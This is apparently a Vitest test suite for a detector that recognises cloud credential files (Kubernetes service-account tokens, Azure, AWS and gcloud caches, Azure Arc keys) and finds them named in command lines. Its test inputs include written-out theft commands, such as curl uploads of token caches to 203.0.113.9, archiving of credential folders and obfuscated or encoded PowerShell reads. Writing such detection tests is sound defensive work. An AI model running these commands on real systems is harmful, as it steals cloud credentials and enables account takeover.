import { describe, expect, it } from 'vitest';
import { tokenFilesInCommandLine } from '../../../src/core/theft/commandLineTokenFiles';
import { isCacheWrittenInPlace, isDeleteAction, isReadAction, tokenFileOfPath } from '../../../src/core/theft/tokenFiles';

describe('tokenFileOfPath', () => {
  it.each([
    ['/var/run/secrets/kubernetes.io/serviceaccount/token', 'ServiceAccountToken'],
    ['/var/run/secrets/kubernetes.io/serviceaccount/..data/token', 'ServiceAccountToken'],
    ['/var/run/secrets/tokens/vault-token', 'ServiceAccountToken'],
    ['/var/run/secrets/azure/tokens/azure-identity-token', 'ServiceAccountToken'],
    ['/var/run/secrets/eks.amazonaws.com/serviceaccount/token', 'ServiceAccountToken'],
    ['/var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token', 'ServiceAccountToken'],
    ['/var/lib/kubelet/pods/3f2a/volumes/kubernetes.io~projected/kube-api-access-x1/token', 'ServiceAccountToken'],
    ['/root/.config/gcloud/application_default_credentials.json', 'TokenCache'],
    ['/home/alice/.config/gcloud/credentials.db', 'TokenCache'],
    ['C:\\Users\\alice\\AppData\\Roaming\\gcloud\\access_tokens.db', 'TokenCache'],
    ['/root/.azure/accessTokens.json', 'TokenCache'],
    ['C:\\Users\\alice\\.azure\\msal_token_cache.bin', 'TokenCache'],
    ['C:\\Users\\alice\\.Azure\\AzureRmContext.json', 'TokenCache'],
    ['/home/alice/.azure/clouds.config.json', 'TokenCache'],
    ['C:\\src\\app\\_work\\_temp\\.azclitask\\msal_token_cache.json', 'TokenCache'],
    ['/home/alice/.azure/msal_http_cache.bin', 'TokenCache'],
    ['/home/alice/.azure/service_principal_entries.json', 'TokenCache'],
    ['C:\\Users\\alice\\AppData\\Local\\.IdentityService\\msal.cache', 'TokenCache'],
    ['C:\\Users\\alice\\AppData\\Local\\Microsoft\\TokenCache\\tc.dat', 'TokenCache'],
    ['C:\\Users\\alice\\AppData\\Local\\Contoso\\TokenCache.dat', 'TokenCache'],
    ['/home/alice/.git-credentials', 'TokenCache'],
    ['/home/alice/.aws/credentials', 'TokenCache'],
    ['/home/alice/.aws/cli/cache/0a1b2c.json', 'TokenCache'],
    ['/home/alice/.aws/sso/cache/0a1b2c.json', 'TokenCache'],
    ['C:\\ProgramData\\AzureConnectedMachineAgent\\Tokens\\5c7a1e2b-0000-4000-8000-00000000a5c3.key', 'TokenCache'],
    ['\\device\\harddiskvolume2\\programdata\\azureconnectedmachineagent\\tokens\\5c7a1e2b-0000-4000-8000-00000000a5c3.key', 'TokenCache'],
    ['/var/opt/azcmagent/tokens/3f0e6b1c-5a2d-4c8e-9b7f-00000000a5c1.key', 'TokenCache'],
    // The Azure Developer CLI's MSAL cache and service principal credentials (DPAPI-sealed .bin on Windows).
    ['/home/alice/.azd/auth/msal/cache5d9d3c3b6a1f.json', 'TokenCache'],
    ['C:\\Users\\alice\\.azd\\auth\\msal\\cache.bin', 'TokenCache'],
    ['/Users/alice/.azd/auth/cred9f2c.json', 'TokenCache'],
    // Windows' token broker responses, in the user's profile and in the AAD broker plug-in's package.
    ['C:\\Users\\alice\\AppData\\Local\\Microsoft\\TokenBroker\\Cache\\5475cb1a49e8e1d1e7b2d2b1c4c1f4d8f2c9c6a1.tbres', 'TokenCache'],
    ['C:\\Users\\alice\\AppData\\Local\\Packages\\Microsoft.AAD.BrokerPlugin_cw5n1h2txyewy\\AC\\TokenBroker\\Cache\\0a1b.tbres', 'TokenCache'],
  ])('%s is a %s file', (path, vector) => {
    expect(tokenFileOfPath(path)?.vector).toBe(vector);
  });

  it.each([
    '/var/run/secrets/kubernetes.io/serviceaccount/namespace',
    // The cluster's public CA beside the token, and the CLI's profile (subscriptions and account names): no secret.
    '/run/secrets/kubernetes.io/serviceaccount/ca.crt',
    '/home/alice/.azure/azureProfile.json',
    'C:\\Windows\\System32\\config\\systemprofile\\.azure\\azureProfile.json',
    '/home/alice/.aws/config',
    '/home/alice/.azure/commands/2026-03-01.log',
    '/etc/passwd',
    '/home/alice/credentials',
    'C:\\Windows\\System32\\drivers\\etc\\hosts',
    '/var/opt/azcmagent/log/himds.log',
    '/var/opt/azcmagent/tokens/readme.txt',
    'C:\\ProgramData\\AzureConnectedMachineAgent\\Config\\agentconfig.json',
    '/etc/ssl/private/server.key',
    // A project's own .azure folder: the Azure Developer CLI's config.json and environments, no token.
    'C:\\src\\contoso-app\\.azure\\config.json',
    '/home/alice/src/contoso-app/.azure/dev/config.json',
    // azd's lock files and its own settings hold no token.
    '/home/alice/.azd/auth/msal/cache5d9d.json.lock',
    '/home/alice/.azd/config.json',
    'C:\\Users\\alice\\AppData\\Local\\Microsoft\\TokenBroker\\Accounts\\a.tbacct',
  ])('%s is not a token file', (path) => {
    expect(tokenFileOfPath(path)).toBeUndefined();
  });

  it.each([
    ['FileDeleted', true],
    ['deletion', true],
    ['deleted', true],
    ['FileCreated', false],
    ['opened-file', false],
    ['', false],
  ])('file action %j is a deletion: %s', (action, expected) => {
    expect(isDeleteAction(action)).toBe(expected);
  });

  it.each([
    // A wildcard in the service-account folder stands for the token, not for a cache name it also matches.
    ['sh -c "cat /var/run/secrets/kubernetes.io/serviceaccount/t*"', 'kubernetes-service-account', 'ServiceAccountToken'],
    ['cat /var/run/secrets/kubernetes.io/serviceaccount/tok*', 'kubernetes-service-account', 'ServiceAccountToken'],
    ['cmd /c copy C:\\ProgramData\\AzureConnectedMachineAgent\\Tokens\\*.key C:\\x', 'azure-arc-token-key', 'TokenCache'],
    ['xcopy C:\\ProgramData\\AzureConnectedMachineAgent\\Tokens C:\\x', 'azure-arc-token-key', 'TokenCache'],
    // EKS Pod Identity's token seen from the node.
    ['cat /var/lib/kubelet/pods/9c0d8b1e/volumes/kubernetes.io~projected/eks-pod-identity-token/eks-pod-identity-token', 'kubelet-pod-volume-token', 'ServiceAccountToken'],
  ])('%j names a %s (%s)', (commandLine, patternId, vector) => {
    expect(tokenFilesInCommandLine(commandLine).map((h) => [h.patternId, h.vector])).toEqual([[patternId, vector]]);
  });

  it('marks the Arc key files and the token broker cache as counting on reads only, and the other files as counting on any access', () => {
    expect(tokenFileOfPath('/var/opt/azcmagent/tokens/3f0e6b1c.key')).toMatchObject({ patternId: 'azure-arc-token-key', readsOnly: true });
    expect(tokenFileOfPath('C:\\Users\\alice\\AppData\\Local\\Microsoft\\TokenBroker\\Cache\\0a1b.tbres')).toMatchObject({ patternId: 'windows-token-broker-cache', readsOnly: true });
    expect(tokenFileOfPath('/root/.azure/msal_token_cache.json')).toMatchObject({ readsOnly: false });
    expect(tokenFilesInCommandLine('Get-Content -Raw %ProgramData%\\AzureConnectedMachineAgent\\Tokens\\5c7a.key').map((h) => h.patternId)).toEqual(['azure-arc-token-key']);
  });

  it.each([
    // Written by its owner where the CLI keeps it: the owner refreshing it.
    ['C:\\Users\\admin\\.Azure\\AzureRmContext.json', 'FileModified', 'CONTOSO\\admin', true],
    ['C:\\Users\\admin\\AppData\\Local\\.IdentityService\\msal.cache', 'FileCreated', 'admin', true],
    ['C:\\Users\\john.smith.CONTOSO\\.azure\\msal_token_cache.bin', 'FileModified', 'CONTOSO\\john.smith', true],
    ['/home/alice/.aws/sso/cache/0a1b.json', 'creation', 'alice', true],
    ['/home/alice/.config/gcloud/legacy_credentials/alice@contoso.com/adc.json', 'modification', '', true],
    ['/root/.azure/msal_token_cache.json', 'FileModified', 'root', true],
    // SSSD's default home for domain users (/home/<domain>/<user>, the account as user@domain), and a service account's under /var/lib (Jenkins).
    ['/home/contoso.com/bob/.local/.IdentityService/msal.cache', 'FileModified', 'bob@contoso.com', true],
    ['/var/lib/jenkins/.local/.IdentityService/msal.cache', 'FileCreated', 'jenkins', true],
    ['/var/lib/jenkins/.azure/msal_token_cache.json', 'FileCreated', 'eve', false],
    ['/home/contoso.com/bob/.azure/msal_token_cache.json', 'FileCreated', 'eve@contoso.com', false],
    // Another account's write, a subfolder the CLI does not write, a read, an unknown action, a copy elsewhere.
    ['C:\\Users\\eve\\.azure\\msal_token_cache.bin', 'FileCreated', 'CONTOSO\\mallory', false],
    ['C:\\Users\\admin\\.Azure\\backup\\AzureRmContext.json', 'FileCreated', 'admin', false],
    ['/home/alice/.azure/msal_token_cache.json', 'opened-file', 'alice', false],
    ['/home/alice/.azure/msal_token_cache.json', '', 'alice', false],
    ['/tmp/msal_token_cache.json', 'FileCreated', 'alice', false],
    // azd refreshing its own cache.
    ['C:\\Users\\alice\\.azd\\auth\\msal\\cache.bin', 'FileModified', 'CONTOSO\\alice', true],
    ['/home/alice/.azd/auth/msal/cache5d9d.json', 'FileCreated', 'eve', false],
  ])('%s %s by %j is a cache written in place: %s', (path, action, account, expected) => {
    const hit = tokenFileOfPath(path);
    expect(hit).toBeDefined();
    expect(isCacheWrittenInPlace(hit!, action, account)).toBe(expected);
  });

  it.each([
    ['opened-file', true],
    ['open', true],
    ['access', true],
    ['info+access', true],
    ['FileCreate', false],
    ['FileCreated', false],
    ['creation', false],
    ['modification', false],
    ['', false],
  ])('file action %j is a read: %s', (action, expected) => {
    expect(isReadAction(action)).toBe(expected);
  });

  it('finds token files named in command lines, once each', () => {
    const hits = tokenFilesInCommandLine(
      'sh -c "cat /var/run/secrets/kubernetes.io/serviceaccount/token; cp ~/.aws/credentials /tmp/c; cat /var/run/secrets/kubernetes.io/serviceaccount/token"',
    );
    expect(hits.map((h) => [h.vector, h.path])).toEqual([
      ['ServiceAccountToken', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
      ['TokenCache', '~/.aws/credentials'],
    ]);
    expect(tokenFilesInCommandLine('type %USERPROFILE%\\.azure\\msal_token_cache.json').map((h) => h.vector)).toEqual(['TokenCache']);
  });

  it.each([
    // curl's upload forms name the file after `@` (`-d @…`, `--data-binary @…`, `-F name=@…`): the file is the path shown.
    ['curl -F f=@/Users/alice/.azure/msal_token_cache.json https://203.0.113.9/u', '', ['/Users/alice/.azure/msal_token_cache.json']],
    ['curl --data-binary @/home/bob/.aws/credentials https://203.0.113.9/u', '', ['/home/bob/.aws/credentials']],
    ['curl -d@/Users/alice/.azure/msal_token_cache.json https://203.0.113.9/u', '', ['/Users/alice/.azure/msal_token_cache.json']],
    ['curl --data-urlencode t@/Users/alice/.config/gcloud/access_tokens.db https://203.0.113.9/u', '', ['/Users/alice/.config/gcloud/access_tokens.db']],
    // A quoted path keeps its spaces.
    ['cmd /c type "C:\\Users\\John Smith\\.azure\\msal_token_cache.bin"', '', ['C:\\Users\\John Smith\\.azure\\msal_token_cache.bin']],
    ["Get-Content -Raw 'C:\\Users\\John Smith\\AppData\\Local\\.IdentityService\\msal.cache'", '', ['C:\\Users\\John Smith\\AppData\\Local\\.IdentityService\\msal.cache']],
    // A relative name in a directory of token files: the working directory, or one a cd moved to.
    ['cat token', '/var/run/secrets/kubernetes.io/serviceaccount', ['/var/run/secrets/kubernetes.io/serviceaccount/token']],
    ['bash -c "cd /var/run/secrets/kubernetes.io/serviceaccount && cat token"', '', ['/var/run/secrets/kubernetes.io/serviceaccount/token']],
    ['sh -c "cd .azure; base64 msal_token_cache.json"', '/home/alice', ['/home/alice/.azure/msal_token_cache.json']],
    // Folders of token files handed whole to an archiver or a copier.
    ['tar czf /tmp/.c.tgz /home/alice/.azure /home/alice/.aws /home/alice/.config/gcloud', '', ['/home/alice/.azure', '/home/alice/.aws', '/home/alice/.config/gcloud']],
    ['powershell -c "Compress-Archive -Path $env:USERPROFILE\\.azure -DestinationPath C:\\Users\\Public\\a.zip"', '', ['$env:USERPROFILE\\.azure']],
    ['cp -r /var/run/secrets/kubernetes.io/serviceaccount /tmp/sa', '', ['/var/run/secrets/kubernetes.io/serviceaccount']],
    ['type service_principal_entries.bin', 'C:\\Users\\alice\\.azure', ['?:/users/alice/.azure/service_principal_entries.bin']],
    // Windows folder variables, in cmd's and PowerShell's spellings.
    ['powershell Get-Content $env:ProgramData\\AzureConnectedMachineAgent\\Tokens\\5c7a1e2b.key', '', ['$env:ProgramData\\AzureConnectedMachineAgent\\Tokens\\5c7a1e2b.key']],
    ['powershell Get-Content ${env:ProgramData}\\AzureConnectedMachineAgent\\Tokens\\5c7a1e2b.key', '', ['$env:ProgramData\\AzureConnectedMachineAgent\\Tokens\\5c7a1e2b.key']],
    ['cmd /c type %ALLUSERSPROFILE%\\AzureConnectedMachineAgent\\Tokens\\5c7a1e2b.key', '', ['%ALLUSERSPROFILE%\\AzureConnectedMachineAgent\\Tokens\\5c7a1e2b.key']],
    ['cmd /c copy %APPDATA%\\gcloud\\credentials.db C:\\Users\\Public\\c.db', '', ['%APPDATA%\\gcloud\\credentials.db']],
    ['powershell Compress-Archive $env:APPDATA\\gcloud C:\\Users\\Public\\g.zip', '', ['$env:APPDATA\\gcloud']],
    // The switches of cd and Set-Location are not the directory.
    ['cmd /c "cd /d C:\\ProgramData\\AzureConnectedMachineAgent\\Tokens && type 5c7a1e2b.key"', '', ['?:/programdata/azureconnectedmachineagent/tokens/5c7a1e2b.key']],
    ['powershell -c "Set-Location -Path C:\\ProgramData\\AzureConnectedMachineAgent\\Tokens; Get-Content 5c7a1e2b.key"', '', ['?:/programdata/azureconnectedmachineagent/tokens/5c7a1e2b.key']],
    // Wildcards that stand for token files, and a folder's every file.
    ['cmd /c type C:\\Users\\alice\\.azure\\msal_token_cache.*', '', ['C:\\Users\\alice\\.azure\\msal_token_cache.*']],
    ['powershell Compress-Archive C:\\Users\\bob\\.azure\\* C:\\Users\\Public\\a.zip', '', ['C:\\Users\\bob\\.azure\\*']],
    ['xcopy %LOCALAPPDATA%\\.IdentityService\\* D:\\loot /s', '', ['%LOCALAPPDATA%\\.IdentityService\\*']],
    // Arc keys are named by GUIDs: a wildcard, a cd then a wildcard, and the key folder handed whole to a copier.
    ['cmd /c copy C:\\ProgramData\\AzureConnectedMachineAgent\\Tokens\\*.key C:\\Users\\Public\\k', '', ['C:\\ProgramData\\AzureConnectedMachineAgent\\Tokens\\*.key']],
    ['cmd /c "cd /d C:\\ProgramData\\AzureConnectedMachineAgent\\Tokens && type *.key"', '', ['?:/programdata/azureconnectedmachineagent/tokens/*.key']],
    ['xcopy C:\\ProgramData\\AzureConnectedMachineAgent\\Tokens C:\\Users\\Public\\t /e', '', ['C:\\ProgramData\\AzureConnectedMachineAgent\\Tokens']],
    ['tar czf /tmp/k.tgz /var/opt/azcmagent/tokens', '', ['/var/opt/azcmagent/tokens']],
    // A token folder named relatively to a copier in the home (`.aws` is shorter than the words skipped as options).
    ['tar czf /tmp/c.tgz .aws', '/home/alice', ['.aws']],
    // The shell removes empty quotes and backslash escapes inside a word before the program sees it.
    ["sh -c \"cat /var/run/secrets/kubernetes.io/serviceaccount/tok''en\"", '', ['/var/run/secrets/kubernetes.io/serviceaccount/token']],
    ['sh -c "cat /var/run/secrets/kubernetes.io/serviceaccount/to\\ken"', '', ['/var/run/secrets/kubernetes.io/serviceaccount/token']],
    // `\"`: a quote inside PowerShell's quoted -Command, as Windows passes it, not a backslash ending the path.
    ['powershell.exe -NoP -Command "Get-Content \\"C:\\Users\\mia\\.azure\\msal_token_cache.json\\" | Out-File C:\\Users\\Public\\x.txt"', '', ['C:\\Users\\mia\\.azure\\msal_token_cache.json']],
    ['powershell -c "[IO.File]::ReadAllBytes(\\"$env:LOCALAPPDATA\\.IdentityService\\msal.cache\\")"', '', ['$env:LOCALAPPDATA\\.IdentityService\\msal.cache']],
    // Every pod token folder, and kubelet's pod volumes seen from the node (here through a hostPath at /host), handed whole to a copier.
    ['cp -r /var/run/secrets/azure/tokens /tmp/t', '', ['/var/run/secrets/azure/tokens']],
    ['tar czf /tmp/p.tgz /var/run/secrets/pods.eks.amazonaws.com/serviceaccount', '', ['/var/run/secrets/pods.eks.amazonaws.com/serviceaccount']],
    ['tar czf /tmp/s.tgz /run/secrets', '', ['/run/secrets']],
    ['tar czf /tmp/k.tgz /host/var/lib/kubelet/pods/3f2a/volumes/kubernetes.io~projected/kube-api-access-8xk2p', '', ['/host/var/lib/kubelet/pods/3f2a/volumes/kubernetes.io~projected/kube-api-access-8xk2p']],
    ['cp -r /host/var/lib/kubelet/pods /tmp/all', '', ['/host/var/lib/kubelet/pods']],
    // The token broker's responses and azd's caches, by a wildcard and as folders handed to an archiver.
    ['cmd /c copy %LOCALAPPDATA%\\Microsoft\\TokenBroker\\Cache\\*.tbres C:\\Users\\Public\\t', '', ['%LOCALAPPDATA%\\Microsoft\\TokenBroker\\Cache\\*.tbres']],
    ['powershell Compress-Archive $env:LOCALAPPDATA\\Microsoft\\TokenBroker C:\\Users\\Public\\t.zip', '', ['$env:LOCALAPPDATA\\Microsoft\\TokenBroker']],
    ['cat /home/alice/.azd/auth/msal/cache*.json', '', ['/home/alice/.azd/auth/msal/cache*.json']],
    ['tar czf /tmp/a.tgz /home/alice/.azd/auth', '', ['/home/alice/.azd/auth']],
    // kubelogin's token cache.
    ['cat /home/alice/.kube/cache/kubelogin/AzurePublicCloud-6dae42f8-4368-4678-94ff-3960e28e3630.json', '', ['/home/alice/.kube/cache/kubelogin/AzurePublicCloud-6dae42f8-4368-4678-94ff-3960e28e3630.json']],
    // The shell's brace expansion hands the program each name.
    ['cat /var/run/secrets/kubernetes.io/serviceaccount/{token,namespace}', '', ['/var/run/secrets/kubernetes.io/serviceaccount/token']],
    ['tar czf /tmp/c.tgz /home/alice/{.azure,.aws}', '', ['/home/alice/.azure', '/home/alice/.aws']],
    ['cp -r .aws /tmp/x', '/home/alice', ['.aws']],
    // An alternate data stream's name, and the script of an -EncodedCommand (Copy-Item C:\Users\bob\.azure\msal_token_cache.bin C:\Users\Public\x).
    ['cmd /c type C:\\Users\\bob\\.azure\\msal_token_cache.bin::$DATA', '', ['C:\\Users\\bob\\.azure\\msal_token_cache.bin']],
    [`powershell -enc ${Buffer.from('Copy-Item C:\\Users\\bob\\.azure\\msal_token_cache.bin C:\\Users\\Public\\x', 'utf16le').toString('base64')}`, '', ['C:\\Users\\bob\\.azure\\msal_token_cache.bin']],
    // PowerShell expands a wildcard folder: every user's cache.
    ['powershell Get-Content C:\\Users\\*\\.azure\\msal_token_cache.bin', '', ['C:\\Users\\*\\.azure\\msal_token_cache.bin']],
    // The variables the pod identity webhooks set to the token's path, in a shell's, PowerShell's and cmd's spellings, and in a command substitution.
    ['sh -c "cat $AZURE_FEDERATED_TOKEN_FILE"', '', ['/var/run/secrets/azure/tokens/azure-identity-token']],
    ["bash -c 'read -r t < ${AWS_WEB_IDENTITY_TOKEN_FILE}; curl -d \"$t\" https://203.0.113.9/'", '', ['/var/run/secrets/eks.amazonaws.com/serviceaccount/token']],
    ['curl -d @$AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE https://203.0.113.9/', '', ['/var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token']],
    ['pwsh -c "Get-Content $env:AZURE_FEDERATED_TOKEN_FILE"', '', ['/var/run/secrets/azure/tokens/azure-identity-token']],
    ['sh -c "az login --service-principal -u $AZURE_CLIENT_ID -t $AZURE_TENANT_ID --federated-token \\"$(cat $AZURE_FEDERATED_TOKEN_FILE)\\""', '', ['/var/run/secrets/azure/tokens/azure-identity-token']],
    // What a printing or setting command runs in a substitution is read: `$(`, `<(` and a backtick start a command.
    ['sh -c "echo $(cat /var/run/secrets/kubernetes.io/serviceaccount/token) | base64"', '', ['/var/run/secrets/kubernetes.io/serviceaccount/token']],
    ['sh -c "echo `cat /var/run/secrets/kubernetes.io/serviceaccount/token`"', '', ['/var/run/secrets/kubernetes.io/serviceaccount/token']],
    ['export T=$(< /var/run/secrets/azure/tokens/azure-identity-token)', '', ['/var/run/secrets/azure/tokens/azure-identity-token']],
    // A recursive search prints every file of the folder it is given: with -r, -R or /s, and ripgrep unasked.
    ['grep -r . /var/run/secrets/kubernetes.io/serviceaccount/', '', ['/var/run/secrets/kubernetes.io/serviceaccount/']],
    ['sh -c "grep -Rn . /var/run/secrets"', '', ['/var/run/secrets']],
    ['rg --no-heading . /home/bob/.aws', '', ['/home/bob/.aws']],
    ['findstr /s /i secret C:\\Users\\bob\\.azure', '', ['C:\\Users\\bob\\.azure']],
    // find handing what it finds to a reader reads the folder it searches; Windows' find prints the file it searches.
    ['find /var/run/secrets/kubernetes.io/serviceaccount -name token -exec cat {} \\;', '', ['/var/run/secrets/kubernetes.io/serviceaccount']],
    ["sh -c 'find /var/run/secrets -type f -print0 | xargs -0 cat'", '', ['/var/run/secrets']],
    ['find /home/bob/.aws -type f -execdir base64 {} +', '', ['/home/bob/.aws']],
    ['cmd /c find /v "" C:\\Users\\bob\\.azure\\msal_token_cache.json', '', ['C:\\Users\\bob\\.azure\\msal_token_cache.json']],
    // A command that reads nothing beside one that reads, in the same line.
    ['cmd /c "icacls C:\\Users\\bob\\.azure\\msal_token_cache.bin /grant eve:R & type C:\\Users\\bob\\.azure\\accessTokens.json"', '', ['C:\\Users\\bob\\.azure\\accessTokens.json']],
  ])('reads %j (working directory %j) as naming %j', (commandLine, workingDirectory, paths) => {
    expect(tokenFilesInCommandLine(commandLine, workingDirectory).map((h) => h.path)).toEqual(paths);
  });

  it.each([
    // A folder named to a program that neither copies nor archives, a relative name outside a token directory, a cd target.
    ['mkdir -p /home/alice/.azure /home/alice/.aws', ''],
    // What an archiver is told to leave out is not copied.
    ['tar czf h.tgz --exclude=/home/alice/.aws /home/alice', ''],
    ['rsync -a --exclude /home/alice/.azure /home/alice/ /mnt/backup/', ''],
    // A quoted exclusion is the word after `--exclude=`; robocopy's /XD and /XF list names up to the next switch.
    ["tar czf /backup/home.tgz --exclude='.aws' --exclude='.azure' /home/bob", '/home/bob'],
    ['robocopy.exe C:\\Users\\bob D:\\Backup\\bob /MIR /XD .azure .aws AppData /R:1', 'C:\\Users\\bob'],
    ['chmod 700 /home/alice/.aws', ''],
    ['cat token', '/srv/app'],
    ['cat notes', '/var/run/secrets/kubernetes.io/serviceaccount'],
    ['bash -c "cd /var/run/secrets/kubernetes.io/serviceaccount && ls"', ''],
    // A search by name reads nothing.
    ['find / -xdev -name msal_token_cache.json -type f', ''],
    // find running a command that reads nothing: permissions, removal.
    ['find /home/alice/.aws -type f -exec chmod 600 {} +', ''],
    // A quoted path is Unix find's, not Windows' quoted search string.
    ['find "/home/alice/.aws" -name credentials', ''],
    ['find /var/run/secrets/azure/tokens -type f | xargs -r rm -f', ''],
    ['locate msal_token_cache.json', ''],
    ['where /r C:\\Users msal_token_cache.bin', ''],
    // Removal, in Windows' built-ins and cmdlets too: it reads nothing.
    ['cmd /c del C:\\Users\\bob\\.azure\\msal_token_cache.bin', ''],
    ['cmd.exe /c "rmdir /s /q C:\\Users\\bob\\.azure"', ''],
    ['powershell -NoProfile -ExecutionPolicy Bypass -Command Remove-Item -Recurse -Force $env:USERPROFILE\\.azure', ''],
    ['sudo rm -f /home/alice/.aws/credentials', ''],
    // Calling the API server from a pod as Kubernetes documents it: the CA is public, the token is not named.
    ['curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt https://kubernetes.default.svc/api', ''],
    ["jq -r '.subscriptions[] | select(.isDefault) | .id' /home/bob/.azure/azureProfile.json", ''],
    // Printing or setting a token file's name reads nothing; nor does a variable no webhook sets to a token file.
    ['sh -c "echo token file: $AZURE_FEDERATED_TOKEN_FILE"', ''],
    ['echo /var/run/secrets/kubernetes.io/serviceaccount/token', ''],
    ['export AZURE_FEDERATED_TOKEN_FILE=/var/run/secrets/azure/tokens/azure-identity-token', ''],
    ['printenv AZURE_FEDERATED_TOKEN_FILE', ''],
    ['cat $MY_TOKEN_FILE', ''],
    // A search that does not recurse reads no folder.
    ['grep token /var/run/secrets/kubernetes.io/serviceaccount', ''],
  ])('finds no token file in %j (working directory %j)', (commandLine, workingDirectory) => {
    expect(tokenFilesInCommandLine(commandLine, workingDirectory)).toEqual([]);
  });
});
